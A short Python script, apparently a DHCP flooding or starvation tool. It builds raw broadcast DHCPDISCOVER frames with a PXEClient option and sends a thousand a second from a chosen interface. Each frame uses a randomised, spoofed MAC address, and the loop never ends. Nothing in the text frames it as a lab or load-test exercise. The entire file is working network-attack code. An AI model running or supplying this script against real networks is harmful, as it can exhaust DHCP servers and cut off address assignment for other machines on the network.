"""Sends DHCPDISCOVER packets of machines that nobody knows, a thousand a second, out of the interface named first."""

import os
import socket
import struct
import sys
import time

PER_SECOND = 1000


def checksum(header):
    total = sum(struct.unpack("!10H", header))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def discover(mac):
    bootp = struct.pack("!BBBBIHH16s16s64s128s", 1, 1, 6, 0, int.from_bytes(os.urandom(4), "big"), 0, 0x8000, b"", mac, b"", b"")
    options = b"\x63\x82\x53\x63" + b"\x35\x01\x01" + b"\x3c\x09PXEClient" + b"\x5d\x02\x00\x07" + b"\xff"
    udp = struct.pack("!HHHH", 68, 67, 8 + len(bootp + options), 0) + bootp + options
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, b"\0" * 4, b"\xff" * 4)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return b"\xff" * 6 + mac + b"\x08\x00" + ip + udp


with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as raw:
    raw.bind((sys.argv[1], 0))
    while True:
        began = time.monotonic()
        for _ in range(PER_SECOND // 10):
            raw.send(discover(b"\x52\x54\x00\xee" + os.urandom(2)))
        time.sleep(max(0.0, began + 0.1 - time.monotonic()))
